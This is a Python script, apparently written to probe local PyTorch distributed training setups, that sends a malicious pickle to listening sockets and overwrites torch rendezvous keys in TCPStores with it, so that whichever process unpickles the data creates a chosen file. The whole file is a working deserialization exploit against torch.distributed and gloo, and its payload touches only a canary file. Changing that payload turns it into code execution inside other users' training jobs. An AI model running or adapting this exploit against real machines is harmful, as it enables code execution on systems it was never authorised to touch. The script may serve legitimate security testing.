"""What another user of the machine can try at sockets that listen: `python stranger.py CANARY HOST:PORT...`.

Whoever unpickles what this sends makes the file CANARY. Where a store of torch's listens, what torch's rendezvous reads
there next is overwritten; prints the names of these keys. Everywhere else the bytes are sent as they are.
"""

from __future__ import annotations

import os
import pickle
import socket
import struct
import sys
import threading
import time
from base64 import b64encode
from pathlib import Path

import torch.distributed as dist
from attrs import frozen

STORE_ANSWERS_WITHIN_S = 5.0  # one that is none never does


@frozen
class Makes:
    """Makes a file when it is unpickled."""

    file: Path

    def __reduce__(self):
        return Path.touch, (self.file,)


def attack(host: str, port: int, payload: bytes, written: list[str]) -> None:
    with socket.create_connection((host, port), timeout=STORE_ANSWERS_WITHIN_S) as connection:
        for number in range(4):  # gloo takes the first eight bytes for the number of a pair
            connection.sendall(struct.pack("=Q", number) + payload)
    store = dist.TCPStore(host, port, is_master=False)
    for key in store.list_keys():
        if "torch.rendezvous." in key:
            store.set(key.removeprefix("/"), b64encode(payload))
            written.append(key)


def main() -> None:
    payload = pickle.dumps(Makes(Path(sys.argv[1])))
    written: list[str] = []
    attacks = []
    for place in sys.argv[2:]:
        host, _, port = place.rpartition(":")
        attacks.append(threading.Thread(target=attack, args=(host, int(port), payload, written), daemon=True))
        attacks[-1].start()
    end = time.monotonic() + STORE_ANSWERS_WITHIN_S
    for thread in attacks:
        thread.join(max(0.0, end - time.monotonic()))
    print(*written, flush=True)
    os._exit(0)  # what waits for an answer cannot be ended otherwise


if __name__ == "__main__":
    main()
